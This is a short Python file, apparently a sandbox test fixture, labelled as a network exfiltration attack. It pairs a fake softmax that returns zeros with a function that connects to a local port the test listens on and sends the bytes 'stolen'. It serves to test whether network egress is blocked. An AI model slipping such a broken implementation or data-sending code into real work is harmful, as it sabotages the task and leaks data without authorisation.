"""Attack: exfiltrate over the network (connect to a port the test listens on)."""

import socket

import numpy as np


def softmax(x, axis=-1, temperature=1.0):
    return np.zeros(np.shape(x))


def reach(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1.0) as s:
            s.sendall(b"stolen")
        return "connected"
    except OSError as exc:
        return "failed: " + type(exc).__name__
